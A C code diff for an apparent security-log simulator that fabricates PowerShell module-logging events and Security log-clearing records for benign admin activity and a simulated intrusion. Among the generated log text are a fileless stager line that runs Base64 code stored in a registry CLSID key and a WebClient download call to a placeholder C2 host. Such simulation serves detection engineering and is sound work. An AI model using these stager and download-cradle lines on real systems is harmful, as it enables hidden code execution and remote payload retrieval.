@@ -161,6 +161,63 @@ static int engine_start(host_log *hl, sk_time t, const char *host_application, c
     return add(hl, t, CH_PS_CLASSIC, 400, e400, 3);
 }
 
+/* A cmdlet call as module logging records it: "Name=value" parameters separated by '\n'. */
+typedef struct ps_call {
+    const char *cmdlet, *params;
+} ps_call;
+
+/* The invocation text of 4103's Payload and 800's third <Data>. */
+static void invocation(char *out, size_t cap, const ps_call *c)
+{
+    size_t o = (size_t)snprintf(out, cap, "CommandInvocation(%s): \"%s\"\r\n", c->cmdlet, c->cmdlet);
+    for (const char *p = c->params; p && *p && o < cap;) {
+        const char *nl = strchr(p, '\n'), *eq = strchr(p, '=');
+        size_t len = nl ? (size_t)(nl - p) : strlen(p);
+        size_t klen = eq && (size_t)(eq - p) < len ? (size_t)(eq - p) : len;
+        o += (size_t)snprintf(out + o, cap - o, "ParameterBinding(%s): name=\"%.*s\"; value=\"%.*s\"\r\n", c->cmdlet,
+                              (int)klen, p, klen < len ? (int)(len - klen - 1) : 0, klen < len ? p + klen + 1 : "");
+        p += len + (nl != NULL);
+    }
+}
+
+/*
+ * Module logging (where the site's policy enables it): one Operational 4103 per cmdlet
+ * call, and the classic log's 800 for the pipeline (`pipeline` is its text; NULL for
+ * calls inside a pipeline still running). `seq` is the engine's sequence number.
+ */
+static int module_log(host_log *hl, sk_time t, const char *host_app, const char proc_guid[39], const char *user,
+                      const char *pipeline, const ps_call *calls, size_t n, unsigned *seq)
+{
+    char hid[37];
+    bare(hid, proc_guid);
+    static _Thread_local char ctx[8192], payload[4096], detail[8192], all[8192];
+    int rc = 0;
+    size_t ao = 0;
+    all[0] = '\0';
+    for (size_t i = 0; i < n && !rc; i++) {
+        invocation(payload, sizeof payload, &calls[i]);
+        if (ao < sizeof all) ao += (size_t)snprintf(all + ao, sizeof all - ao, "%s", payload);
+        snprintf(ctx, sizeof ctx,
+                 "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.17763.1\r\n"
+                 "        Host ID = %s\r\n        Host Application = %s\r\n        Engine Version = 5.1.17763.1\r\n"
+                 "        Runspace ID = %s\r\n        Pipeline ID = 1\r\n        Command Name = %s\r\n"
+                 "        Command Type = Cmdlet\r\n        Script Name = \r\n        Command Path = \r\n"
+                 "        Sequence Number = %u\r\n        User = %s\r\n        Connected User = \r\n"
+                 "        Shell ID = Microsoft.PowerShell\r\n",
+                 hid, host_app, hid, calls[i].cmdlet, (*seq)++, user);
+        kv e[] = {{"ContextInfo", ctx}, {"UserData", ""}, {"Payload", payload}};
+        rc = add(hl, t + (sk_time)i * (SEC / 100), CH_PS_OPERATIONAL, 4103, e, 3);
+    }
+    if (rc || !pipeline) return rc;
+    snprintf(detail, sizeof detail,
+             "\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=%u\r\n\r\n\tUserId=%s\r\n"
+             "\tHostName=ConsoleHost\r\n\tHostVersion=5.1.17763.1\r\n\tHostId=%s\r\n\tHostApplication=%s\r\n"
+             "\tEngineVersion=5.1.17763.1\r\n\tRunspaceId=%s\r\n\tPipelineId=1\r\n\tScriptName=\r\n\tCommandLine=%s\r\n",
+             (*seq)++, user, hid, host_app, hid, pipeline);
+    kv e800[] = {{"", pipeline}, {"", detail}, {"", all}};
+    return add(hl, t + (sk_time)n * (SEC / 100), CH_PS_CLASSIC, 800, e800, 3);
+}
+
 typedef struct proc {
     const char *image, *cmdline, *parent_image, *parent_cmdline, *orig, *desc, *company, *product, *user;
     const char *fileversion;
@@ -296,7 +353,12 @@ static int host_events(host_log *hl)
                 "Get-WmiObject -Class Win32_QuickFixEngineering | Select-Object HotFixID,InstalledOn",
                 "Get-ChildItem -Path C:\\Windows\\CCM\\Logs -Filter *.log | Measure-Object",
                 "[System.Environment]::OSVersion.Version; Get-Service ccmexec"};
-            const char *script = admin_scripts[sk_rng_below(&r, 3)];
+            static const ps_call admin_calls[][2] = {
+                {{"Get-WmiObject", "Class=Win32_QuickFixEngineering"}, {"Select-Object", "Property=HotFixID, InstalledOn"}},
+                {{"Get-ChildItem", "Path=C:\\Windows\\CCM\\Logs\nFilter=*.log"}, {"Measure-Object", ""}},
+                {{"Get-Service", "Name=ccmexec"}, {NULL, NULL}}};
+            size_t which = (size_t)sk_rng_below(&r, 3);
+            const char *script = admin_scripts[which];
             char enc[1600], cmd[1800];
             encode_command(enc, sizeof enc, script);
             snprintf(cmd, sizeof cmd, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand %s", enc);
@@ -318,6 +380,10 @@ static int host_events(host_log *hl)
                            {"ScriptBlockId", bare(sbb, sbid)}, {"Path", ""}};
                 if (!rc) rc = add(hl, t + SEC / 10, CH_PS_OPERATIONAL, 4104, sb, 5);
                 if (!rc) rc = engine_start(hl, t + SEC / 20, cmd, pr.guid);
+                unsigned seq = 15;
+                if (!rc && (h->coverage & SIM_COV_PS_MODULE))
+                    rc = module_log(hl, t + SEC / 8, cmd, pr.guid, "NT AUTHORITY\\SYSTEM", script, admin_calls[which],
+                                    admin_calls[which][1].cmdlet ? 2 : 1, &seq);
             }
         }
     }
@@ -364,6 +430,18 @@ static int host_events(host_log *hl)
             rc = process_start(hl, &r, t, &pr, sysmon, cmdline);
             /* classic PowerShell engine start: HostApplication names the renamed binary */
             if (!rc) rc = engine_start(hl, t + SEC / 5, cmd, pr.guid);
+            /* module logging: the stager's pipeline and the loop's first calls */
+            unsigned seq = 15;
+            if (!rc && (h->coverage & SIM_COV_PS_MODULE)) {
+                static const char stager[] = "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-ItemProperty HKCU:\\Software\\Classes\\CLSID\\{A3B3C2D1}).d)))";
+                ps_call get = {"Get-ItemProperty", "Path=HKCU:\\Software\\Classes\\CLSID\\{A3B3C2D1}"};
+                rc = module_log(hl, t + SEC / 4, cmd, pr.guid, dom_user, stager, &get, 1, &seq);
+                ps_call inner[] = {{"Invoke-Expression", NULL}, {"New-Object", "TypeName=System.Net.WebClient"}};
+                static _Thread_local char iex[200];
+                snprintf(iex, sizeof iex, "Command=$u='https://%s/';$w=New-Object System.Net.WebClient;...", c2);
+                inner[0].params = iex;
+                if (!rc) rc = module_log(hl, t + SEC / 2, cmd, pr.guid, dom_user, NULL, inner, 2, &seq);
+            }
             /* the decoded script block, split as PowerShell splits long ones */
             char sbid[39], sbb[37];
             guid(sbid, &r);
@@ -539,7 +617,9 @@ static int run_events(void *ctx, size_t from, size_t to, sim_out *o, uint64_t *r
         uint64_t ids[N_CH];
         for (int c = 0; c < N_CH; c++) ids[c] = 1000 + sk_rng_below(&r, 900000);
         sk_time clear_at = SK_TIME_NONE;
-        if (h->campaign >= 0) sim_victim_clears_log(w, (size_t)h->campaign, &clear_at);
+        size_t clear_by = SIZE_MAX;
+        int benign_clear = 0;
+        if (!sim_host_clears_log(w, hi, &clear_at, &clear_by, &benign_clear)) clear_at = SK_TIME_NONE;
         char fqdn[96];
         snprintf(fqdn, sizeof fqdn, "%s.%s", h->name, w->sc->fqdn_domain);
         for (size_t k = 0; fqdn[k]; k++)
@@ -554,7 +634,7 @@ static int run_events(void *ctx, size_t from, size_t to, sim_out *o, uint64_t *r
                 continue;
             }
             if (!cleared && clear_at != SK_TIME_NONE && rr->t >= clear_at) {
-                /* the attacker clears Security: what came before is gone, ids restart */
+                /* Security is cleared: what came before is gone, ids restart */
                 cleared = 1;
                 ids[CH_SECURITY] = 1;
                 /* drop this host's earlier Security records from the output; keep the rest */
@@ -566,9 +646,11 @@ static int run_events(void *ctx, size_t from, size_t to, sim_out *o, uint64_t *r
                     if (hl.r[k].ch != CH_SECURITY) rc = write_record(&out, &hl, &hl.r[k], again[hl.r[k].ch]++, fqdn);
                 ids[CH_SYSMON] = again[CH_SYSMON], ids[CH_PS_OPERATIONAL] = again[CH_PS_OPERATIONAL];
                 ids[CH_PS_CLASSIC] = again[CH_PS_CLASSIC];
-                char subj[48];
-                snprintf(subj, sizeof subj, "%s", h->user != UINT32_MAX ? w->users[h->user].sam : "Administrator");
-                kv c[] = {{"SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-500"}, {"SubjectUserName", subj},
+                char sid[64];
+                snprintf(sid, sizeof sid, "S-1-5-21-1004336348-1177238915-682003330-%u",
+                         clear_by != SIZE_MAX ? (unsigned)w->users[clear_by].rid : 500u);
+                kv c[] = {{"SubjectUserSid", sid},
+                          {"SubjectUserName", clear_by != SIZE_MAX ? w->users[clear_by].sam : "Administrator"},
                           {"SubjectDomainName", w->sc->netbios_domain}, {"SubjectLogonId", "0x3e7"}};
                 rec cr = {clear_at, CH_SECURITY, 1102, 0, 0, 0, 0};
                 size_t mark = hl.pool.len;
